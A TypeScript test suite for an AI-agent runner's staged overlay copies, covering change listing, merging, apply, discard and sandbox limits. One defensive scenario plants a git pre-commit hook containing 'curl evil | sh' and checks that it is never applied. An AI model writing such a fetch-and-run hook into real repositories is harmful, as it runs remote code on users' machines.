import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, afterEach, before, describe, it } from "node:test";
import { finishInterruptedApplies, planApply, readPlan, runApply } from "../runtime/stage/apply.ts";
import { applyCommand, changesCommand, discardCommand } from "../cli/changes.ts";
import { loadConfig } from "../runtime/config.ts";
import type { EventOf } from "../runtime/events.ts";
import { parseTaskFile, toTaskSpec } from "../tasks/index.ts";
import { writeResult } from "../tasks/outbox.ts";
import { createStage, discardStage, mountStage, stageChanges, stageDir } from "../runtime/stage/overlay.ts";
import { tempDir, writeTree } from "./support/home.ts";
import { findOnPath, isCi, needs } from "./support/prerequisites.ts";
import { createBwrapSandbox, createUnsandboxed } from "../runtime/sandbox/index.ts";
import { startSession } from "../runtime/loop.ts";
import { createHarness, type Harness } from "./support/session.ts";
import { createRuntimeHarness, type RuntimeHarness } from "./support/runtime-harness.ts";

/** Whether this machine mounts overlays in user namespaces (Linux 5.11+, util-linux); CI must. */
async function overlaySupport(): Promise<string | undefined> {
  const dir = tempDir("nightshift-stage-probe-", "/var/tmp");
  try {
    mkdirSync(join(dir.path, "folder"));
    createStage(join(dir.path, "home"), "probe", join(dir.path, "folder"), 0);
    const mount = await mountStage(join(dir.path, "home"), "probe");
    await mount.close();
    return undefined;
  } catch (error) {
    return `overlayfs in a user namespace does not work here: ${(error as Error).message}`;
  } finally {
    dir.cleanup();
  }
}
const unsupported = await overlaySupport();
if (unsupported && isCi()) throw new Error(unsupported);

/** Runs a shell line in the holder's namespace, in the merged view: what a sandboxed command will do. */
function inView(pid: number, merged: string, script: string): void {
  const result = spawnSync("nsenter", ["--target", String(pid), "--user", "--mount", "--preserve-credentials", "sh", "-c", `cd "$1" && ${script}`, "sh", merged], { encoding: "utf8" });
  assert.equal(result.status, 0, result.stderr);
}

describe("staged copies (overlay)", { skip: unsupported }, () => {
  let dir: ReturnType<typeof tempDir>;
  let home: string;
  let original: string;
  before(() => {
    dir = tempDir("nightshift-stage-", "/var/tmp");
    home = join(dir.path, "home");
    original = join(dir.path, "project");
  });
  after(() => dir.cleanup());

  it("shows the folder as it is, keeps every write out of it, and keeps the writes for the next mount", async () => {
    writeTree(original, { "README.md": "# app\n", "src/main.js": "console.log(1);\n", "node_modules/dep/index.js": "module.exports = 1;\n" });
    createStage(home, "t1", original, 0);
    const mount = await mountStage(home, "t1");
    assert.equal(readFileSync(mount.toView(join(original, "node_modules/dep/index.js")), "utf8"), "module.exports = 1;\n", "ignored folders are there");
    writeFileSync(mount.toView(join(original, "src/main.js")), "console.log(2);\n");
    assert.equal(mount.toView("/etc/hostname"), "/etc/hostname", "only paths in the folder are mapped");
    assert.equal(readFileSync(join(original, "src/main.js"), "utf8"), "console.log(1);\n", "the original is untouched");
    assert.equal(readFileSync(join(stageDir(home, "t1"), "upper", "src", "main.js"), "utf8"), "console.log(2);\n");
    await mount.close();
    assert.equal(existsSync(`/proc/${mount.pid}`), false, "the holder ends when it is closed");

    const again = await mountStage(home, "t1");
    assert.equal(readFileSync(again.toView(join(original, "src/main.js")), "utf8"), "console.log(2);\n");
    await again.close();
    discardStage(home, "t1");
    assert.equal(existsSync(stageDir(home, "t1")), false);
    assert.equal(readFileSync(join(original, "src/main.js"), "utf8"), "console.log(1);\n");
  });

  it("lists what a command changed: added, modified, deleted, renamed, a folder removed, an executable bit, a symlink, with line counts", async () => {
    const folder = join(dir.path, "repo");
    writeTree(folder, {
      "keep.txt": "same\n",
      "edit.txt": "one\ntwo\nthree\n",
      "gone.txt": "bye\n",
      "old-name.txt": "moving along\n",
      "lib/a.js": "a\n",
      "lib/b.js": "b\n",
      "run.sh": "echo hi\n",
      "logo.bin": "\u0000\u0001\u0002",
    });
    symlinkSync("keep.txt", join(folder, "link"));
    createStage(home, "t2", folder, 0);
    const mount = await mountStage(home, "t2");
    try {
      inView(mount.pid, mount.merged, [
        "printf 'one\\n2\\nthree\\nfour\\n' > edit.txt",
        "rm gone.txt",
        "mv old-name.txt new-name.txt",
        "rm -r lib",
        "mkdir -p docs && printf 'a\\nb\\n' > docs/guide.md",
        "chmod +x run.sh",
        "ln -sf edit.txt link",
        "printf '\\003\\004' >> logo.bin",
      ].join(" && "));
      const changes = stageChanges(home, mount);
      assert.deepEqual(changes, [
        { kind: "added", path: "docs/guide.md", type: "file", added: 2, removed: 0 },
        { kind: "modified", path: "edit.txt", type: "file", added: 2, removed: 1 },
        { kind: "deleted", path: "gone.txt", type: "file", added: 0, removed: 1 },
        { kind: "deleted", path: "lib/a.js", type: "file", added: 0, removed: 1 },
        { kind: "deleted", path: "lib/b.js", type: "file", added: 0, removed: 1 },
        { kind: "modified", path: "link", type: "symlink" },
        { kind: "modified", path: "logo.bin", type: "file", binary: true },
        { kind: "renamed", path: "new-name.txt", from: "old-name.txt", type: "file", added: 0, removed: 0 },
        { kind: "modified", path: "run.sh", type: "file", added: 0, removed: 0 },
      ]);
      assert.equal(readFileSync(join(folder, "edit.txt"), "utf8"), "one\ntwo\nthree\n", "the original is untouched");
      assert.ok(existsSync(join(folder, "lib", "a.js")));
    } finally {
      await mount.close();
    }
  });

  it("runs a sandboxed command in the staged copy at the folder's own path; the original stays as it was", { skip: findOnPath("bwrap") ? undefined : "needs bwrap" }, async () => {
    const folder = join(dir.path, "app");
    writeTree(folder, { "package.json": '{"name":"app"}\n', "src/index.js": "1\n", ".git/HEAD": "ref: refs/heads/main\n" });
    createStage(home, "t3", folder, 0);
    const mount = await mountStage(home, "t3");
    const sandbox = createBwrapSandbox({ env: { PATH: process.env.PATH } });
    try {
      const stage = { pid: mount.pid, merged: mount.merged, original: mount.info.original };
      const result = await sandbox.run("pwd; cat package.json; echo 2 > src/index.js; rm package.json; mkdir out && echo built > out/app.js; echo x > .git/HEAD", { cwd: mount.info.original, pinned: [join(mount.info.original, ".git")], timeoutMs: 20_000, maxOutputBytes: 10_000, stage });
      assert.equal(result.exitCode, 0, result.output);
      assert.equal(result.output, `${mount.info.original}\n{"name":"app"}\n`);
      assert.deepEqual(stageChanges(home, mount).map((change) => `${change.kind} ${change.path}`), ["modified .git/HEAD", "added out/app.js", "deleted package.json", "modified src/index.js"]);
      assert.equal(readFileSync(join(folder, "src/index.js"), "utf8"), "1\n");
      assert.equal(readFileSync(join(folder, ".git/HEAD"), "utf8"), "ref: refs/heads/main\n", "a pinned folder is the staged one too");
      assert.ok(existsSync(join(folder, "package.json")));
      await assert.rejects(createUnsandboxed({ env: {} }).run("true", { cwd: folder, timeoutMs: 1000, maxOutputBytes: 100, stage }), /a staged copy needs the bwrap sandbox/);
    } finally {
      await mount.close();
    }
  });

  it("builds in the staged copy: make reads the folder's files and writes its outputs to the copy", { skip: findOnPath("make") ? undefined : isCi() ? undefined : "needs make" }, async () => {
    const folder = join(dir.path, "build");
    writeTree(folder, { Makefile: "out/app.txt: src/app.txt\n\tmkdir -p out && tr a-z A-Z < src/app.txt > out/app.txt\n", "src/app.txt": "hello\n" });
    createStage(home, "t-make", folder, 0);
    const mount = await mountStage(home, "t-make");
    try {
      const stage = { pid: mount.pid, merged: mount.merged, original: mount.info.original };
      const result = await createBwrapSandbox({ env: { PATH: process.env.PATH } }).run("make", { cwd: mount.info.original, timeoutMs: 20_000, maxOutputBytes: 10_000, stage });
      assert.equal(result.exitCode, 0, result.output);
      assert.equal(readFileSync(mount.toView(join(folder, "out/app.txt")), "utf8"), "HELLO\n");
      assert.ok(!existsSync(join(folder, "out")), "the folder has no build output");
    } finally {
      await mount.close();
    }
  });

  it("applies in a plain folder (no git): a file both changed is kept as the person's and named", async () => {
    const folder = join(dir.path, "plain");
    writeTree(folder, { "a.txt": "a\n", "b.txt": "b\n" });
    createStage(home, "t-plain", folder, 0);
    const mount = await mountStage(home, "t-plain");
    try {
      inView(mount.pid, mount.merged, "echo A > a.txt && echo B > b.txt && echo c > c.txt");
      writeFileSync(join(folder, "b.txt"), "mine\n");
      const plan = planApply(home, mount);
      assert.deepEqual(plan.conflicts.map((conflict) => [conflict.path, conflict.reason]), [["b.txt", "you changed it meanwhile, and there is no common version to merge from (not a file git knew)"]]);
      runApply(home, "t-plain");
      assert.deepEqual([readFileSync(join(folder, "a.txt"), "utf8"), readFileSync(join(folder, "b.txt"), "utf8"), readFileSync(join(folder, "c.txt"), "utf8")], ["A\n", "mine\n", "c\n"]);
    } finally {
      await mount.close();
    }
  });

  it("refuses a stage that does not exist, with its path", async () => {
    await assert.rejects(mountStage(home, "missing"), /there is no staged copy missing \(state\/stages\/missing\/stage\.json is missing\)/);
  });
});


describe("a session in a staged copy", { skip: unsupported ?? (findOnPath("bwrap") ? undefined : "needs bwrap") }, () => {
  let harness: Harness | undefined;
  after(async () => harness?.close());

  it("writes, edits and commands land in the stage; the original is untouched; a symlink made in the stage is followed as the task sees it", async () => {
    harness = await createHarness();
    const h = harness;
    writeTree(h.workdir, { "notes.md": "one\ntwo\n", "src/app.js": "let x = 1;\n" });
    const outside = join(h.root, "outside.txt");
    writeFileSync(outside, "keep me\n");
    const home = join(h.root, "home");
    createStage(home, "s1", h.workdir, 0);
    const mount = await mountStage(home, "s1");
    try {
      const view = { toView: mount.toView, stage: { pid: mount.pid, merged: mount.merged, original: mount.info.original } };
      const use = (name: string, input: unknown) => ({ content: [{ type: "tool_use" as const, name, input }] });
      h.api.script(
        use("write_file", { path: "src/new.js", content: "export {};\n" }),
        use("edit_file", { path: "notes.md", old_text: "two", new_text: "2" }),
        use("bash", { command: `rm src/app.js && ln -s ${outside} escape.txt && cat notes.md` }),
        use("read_file", { path: "src/new.js" }),
        use("write_file", { path: "escape.txt", content: "overwritten" }),
        { content: [{ type: "text", text: "done" }] },
      );
      const result = await startSession(h.task, { ...h.deps, view });
      assert.equal(result.status, "done");
      const results = h.api.requests.slice(1).map((request) => request.body.messages.at(-1).content[0]);
      assert.match(results[2].content, /one\n2/, "the command sees the staged edit");
      assert.match(results[3].content, /export \{\};/, "read_file reads the stage");
      assert.equal(results[4].is_error, true, "the link leads outside the workdir: that write asks, and nobody can approve here");
      assert.equal(readFileSync(outside, "utf8"), "keep me\n");
      assert.equal(readFileSync(join(h.workdir, "notes.md"), "utf8"), "one\ntwo\n");
      assert.ok(existsSync(join(h.workdir, "src", "app.js")));
      assert.ok(!existsSync(join(h.workdir, "src", "new.js")));
      assert.deepEqual(stageChanges(home, mount).map((change) => `${change.kind} ${change.path}`), ["added escape.txt", "modified notes.md", "deleted src/app.js", "added src/new.js"]);
    } finally {
      await mount.close();
    }
  });
});

describe("the runtime with a staged task", { skip: unsupported ?? (findOnPath("bwrap") ? undefined : "needs bwrap") }, () => {
  let h: RuntimeHarness | undefined;
  afterEach(async () => {
    await h?.close();
    h = undefined;
  });

  it("keeps the task's writes in its staged copy across a restart", async () => {
    h = await createRuntimeHarness();
    writeFileSync(join(h.workdir, "todo.md"), "- ship\n");
    const use = (name: string, input: unknown) => ({ content: [{ type: "tool_use" as const, name, input }] });
    h.api.script(use("bash", { command: "echo '- test' >> todo.md && touch made.txt" }), { content: [{ type: "text", text: "done" }] });
    const id = h.runtime.newSessionId();
    assert.equal((await h.runtime.start(id, h.task({ stage: true }))).status, "done");
    assert.equal(readFileSync(join(h.workdir, "todo.md"), "utf8"), "- ship\n", "the folder is untouched");
    assert.ok(!existsSync(join(h.workdir, "made.txt")));
    assert.equal(readFileSync(join(stageDir(h.home, id), "upper", "todo.md"), "utf8"), "- ship\n- test\n");

    await h.restart();
    h.api.script(use("read_file", { path: "todo.md" }), { content: [{ type: "text", text: "read" }] });
    assert.equal((await h.runtime.continue(id, "What does todo.md say now?")).status, "done");
    const read = h.api.requests.at(-1)!.body.messages.at(-1).content[0];
    assert.match(read.content, /- ship\n.*- test/s, "the continued task sees its own staged copy");
  });

  it("shows the changes with a diff, applies them, and discards another task's, from the command line", async () => {
    h = await createRuntimeHarness();
    writeFileSync(join(h.workdir, "app.js"), "const a = 1;\nconst b = 2;\n");
    const use = (name: string, input: unknown) => ({ content: [{ type: "tool_use" as const, name, input }] });
    h.api.script(use("edit_file", { path: "app.js", old_text: "const b = 2;", new_text: "const b = 3;" }), { content: [{ type: "text", text: "done" }] });
    const id = h.runtime.newSessionId();
    const result = await h.runtime.start(id, h.task({ stage: true }));
    assert.deepEqual(result.staged, { original: h.workdir, changes: ["M app.js (+1 −1)"], diff: "diff --git a/app.js b/app.js\n--- a/app.js\n+++ b/app.js\n@@ -1,2 +1,2 @@\n const a = 1;\n-const b = 2;\n+const b = 3;\n" }, "the result says what the copy holds");
    const outbox = join(h.root, "outbox");
    const written = readFileSync(writeResult(outbox, { id, name: "fix.md", title: "Fix", state: "done" } as never, result, 0), "utf8");
    assert.match(written, /\nstaged_changes: 1\n/);
    assert.match(written, new RegExp(`## Staged changes, not applied yet\nThe task worked on a copy of .*; nothing reached the folder\. 1 change:\n\n    M app\\.js \\(\\+1 −1\\)\n\nReview with \`nightshift changes ${id}\` \\(the diff\\), then \`nightshift apply ${id}\` or \`nightshift discard ${id}\`\\.`));
    const changes = await changesCommand(h.home, id);
    assert.match(changes.text, new RegExp(`^Task ${id} changed 1 file in its staged copy of .*:\nM app\\.js \\(\\+1 −1\\)\n\ndiff --git a/app\\.js b/app\\.js\n--- a/app\\.js\n\\+\\+\\+ b/app\\.js\n@@ -1,2 \\+1,2 @@\n const a = 1;\n-const b = 2;\n\\+const b = 3;\n`));
    const applied = await applyCommand(h.home, id);
    assert.equal(applied.code, 0, applied.text);
    assert.match(applied.text, /^applied 1 change to /);
    assert.equal(readFileSync(join(h.workdir, "app.js"), "utf8"), "const a = 1;\nconst b = 3;\n");
    await assert.rejects(changesCommand(h.home, id), /has no staged copy/);

    h.api.script(use("write_file", { path: "junk.txt", content: "x" }), { content: [{ type: "text", text: "done" }] });
    const other = h.runtime.newSessionId();
    await h.runtime.start(other, h.task({ stage: true }));
    assert.match(discardCommand(h.home, other).text, /^Discarded task .*'s staged changes; .* was never touched\.$/);
    assert.ok(!existsSync(join(h.workdir, "junk.txt")));
  });

  it("lets a staged task write in its copy without asking, where a write in the folder itself would ask", async () => {
    h = await createRuntimeHarness({ config: "permissions:\n  ask:\n    - write: \"{workdir}/**\"\n" });
    const write = { content: [{ type: "tool_use" as const, name: "write_file", input: { path: "out.txt", content: "x" } }] };
    h.api.script(write, { content: [{ type: "text", text: "done" }] }, write, { content: [{ type: "text", text: "done" }] });
    await h.runtime.start(h.runtime.newSessionId(), h.task());
    assert.match(h.api.requests[1]!.body.messages.at(-1).content[0].content, /^Not approved: write .*out\.txt/, "unstaged: asked, and nobody can answer here");
    const id = h.runtime.newSessionId();
    await h.runtime.start(id, h.task({ stage: true }));
    assert.match(h.api.requests[3]!.body.messages.at(-1).content[0].content, /^wrote 1 bytes to out\.txt/);
    const decision = (await h.events(id)).find((event): event is EventOf<"permission"> => event.type === "permission" && event.kind === "write");
    assert.equal(decision?.reason, "a staged copy: you review the changes before they are applied");
    assert.ok(!existsSync(join(h.workdir, "out.txt")));
  });

  it("refuses a staged task under a sandbox that cannot enter the copy, rather than run it on the folder", needs("srt"), async () => {
    h = await createRuntimeHarness({ sandbox: "srt" });
    await assert.rejects(h.runtime.start(h.runtime.newSessionId(), h.task({ stage: true })), /works on a staged copy of .*, which needs the bwrap sandbox on Linux \(this one is srt\)/);
    assert.equal(h.api.requests.length, 0, "no model call");
  });
});

describe("applying a staged copy", { skip: unsupported }, () => {
  let dir: ReturnType<typeof tempDir>;
  before(() => {
    dir = tempDir("nightshift-apply-", "/var/tmp");
  });
  after(() => dir.cleanup());

  /** A git repository with a change not yet committed, staged, then changed by "the task" and by "the person". */
  async function scenario(name: string) {
    const home = join(dir.path, `home-${name}`);
    const repo = join(dir.path, name);
    writeTree(repo, {
      "a.txt": "1\n2\n3\n4\n5\n",
      "b.txt": "remove me\n",
      "c.txt": "moving\n",
      "f.txt": "shared line\n",
      "run.sh": "echo hi\n",
      "lib/old.js": "old\n",
    });
    const git = (...args: string[]) => assert.equal(spawnSync("git", ["-C", repo, ...args], { encoding: "utf8" }).status, 0);
    git("init", "-q");
    git("add", "-A");
    git("-c", "user.email=t@example.com", "-c", "user.name=t", "commit", "-qm", "start");
    writeFileSync(join(repo, "a.txt"), "1\n2\n3\n4\n5\n6\n"); // not committed: the base is the working tree, not HEAD
    createStage(home, name, repo, 0);
    const mount = await mountStage(home, name);
    inView(mount.pid, mount.merged, [
      "printf 'one\\n2\\n3\\n4\\n5\\n6\\n' > a.txt",
      "rm b.txt",
      "mv c.txt d.txt",
      "echo new > e.txt",
      "chmod +x run.sh",
      "echo task > f.txt",
      "rm -r lib",
      "ln -s a.txt link",
      "mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
    ].join(" && "));
    // Meanwhile the person edits a.txt's last line (the task changed the first) and f.txt (the task changed it too).
    writeFileSync(join(repo, "a.txt"), "1\n2\n3\n4\n5\nsix\n");
    writeFileSync(join(repo, "f.txt"), "person\n");
    return { home, repo, mount };
  }

  it("applies what the task changed, merges what both changed apart, keeps the person's version where they clash, and never applies git's control files", async () => {
    const { home, repo, mount } = await scenario("merge");
    try {
      const plan = planApply(home, mount);
      assert.deepEqual(plan.merged, ["a.txt"]);
      assert.deepEqual(plan.conflicts.map((conflict) => conflict.path).sort(), [".git/hooks/pre-commit", "f.txt"]);
      runApply(home, "merge");
      assert.equal(readFileSync(join(repo, "a.txt"), "utf8"), "one\n2\n3\n4\n5\nsix\n", "both edits");
      assert.equal(readFileSync(join(repo, "f.txt"), "utf8"), "person\n", "the clash keeps the person's version");
      assert.ok(!existsSync(join(repo, "b.txt")));
      assert.ok(!existsSync(join(repo, "c.txt")));
      assert.equal(readFileSync(join(repo, "d.txt"), "utf8"), "moving\n");
      assert.equal(readFileSync(join(repo, "e.txt"), "utf8"), "new\n");
      assert.ok(lstatSync(join(repo, "run.sh")).mode & 0o100, "the executable bit");
      assert.equal(readlinkSync(join(repo, "link")), "a.txt");
      assert.ok(!existsSync(join(repo, "lib")), "the removed folder is gone");
      assert.ok(!existsSync(join(repo, ".git", "hooks", "pre-commit")));
    } finally {
      await mount.close();
    }
  });

  it("finishes an apply killed with SIGKILL at any step, and leaves the folder as a whole apply would", async () => {
    const reference = await scenario("whole");
    planApply(reference.home, reference.mount);
    runApply(reference.home, "whole");
    await reference.mount.close();
    const steps = readPlan(reference.home, "whole")!.steps.length;
    for (const kill of [0, Math.floor(steps / 2), steps - 1]) {
      const { home, repo, mount } = await scenario(`kill${kill}`);
      try {
        planApply(home, mount);
        const child = spawnSync(process.execPath, [join(import.meta.dirname, "support", "apply-child.ts"), home, `kill${kill}`, String(kill)]);
        assert.equal(child.signal, "SIGKILL");
        assert.equal(readPlan(home, `kill${kill}`)!.done, kill + 1, "the plan says how far it got");
        const finished = finishInterruptedApplies(home); // what the next start does
        assert.deepEqual(finished.map((entry) => [entry.id, entry.plan?.done]), kill === steps - 1 ? [] : [[`kill${kill}`, steps]], "killed after the last step, there is nothing left to do");
        assert.deepEqual(snapshot(repo), snapshot(reference.repo), `killed after step ${kill}`);
      } finally {
        await mount.close();
      }
    }
  });
});

/** Every entry of a folder but .git: path, kind, mode and content. */
function snapshot(root: string): string[] {
  const out: string[] = [];
  const walk = (rel: string) => {
    for (const name of readdirSync(join(root, rel)).sort()) {
      if (rel === "" && name === ".git") continue;
      const path = join(rel, name);
      const info = lstatSync(join(root, path));
      if (info.isDirectory()) walk(path);
      else out.push(`${path} ${info.mode.toString(8)} ${info.isSymbolicLink() ? `-> ${readlinkSync(join(root, path))}` : readFileSync(join(root, path), "utf8")}`);
    }
  };
  walk("");
  return out;
}

describe("which tasks are staged", () => {
  it("follows the task file's stage:, else tasks.stage (auto: the person's own folder, not a fresh one)", () => {
    const dir = tempDir("nightshift-stage-spec-");
    try {
      const home = join(dir.path, "home");
      const folder = join(dir.path, "folder");
      mkdirSync(folder);
      const spec = (setting: string, front: string, withFolder: boolean) => {
        mkdirSync(home, { recursive: true });
        writeFileSync(join(home, "config.yaml"), setting ? `tasks:\n  stage: ${setting}\n` : "");
        const loaded = loadConfig({ HOME: dir.path }, home);
        const file = parseTaskFile("inbox/t.md", `---\ntitle: t\n${withFolder ? `workdir: ${folder}\n` : ""}${front}---\nGo.\n`);
        return toTaskSpec(file, { loaded, id: `id${Math.random().toString(36).slice(2, 8)}`, fileName: "inbox/t.md", source: "inbox" }).stage === true;
      };
      assert.equal(spec("", "", true), true, "auto by default: the person's own folder is staged");
      assert.equal(spec("", "", false), false, "a fresh folder is not");
      assert.equal(spec("", "stage: true\n", true), true);
      assert.equal(spec("auto", "", true), true, "auto: the person's own folder");
      assert.equal(spec("auto", "", false), false, "auto: a fresh folder under workspace/ is not");
      assert.equal(spec("on", "stage: false\n", true), false, "the task file decides");
      assert.equal(spec("on", "", false), true);
    } finally {
      dir.cleanup();
    }
  });
});
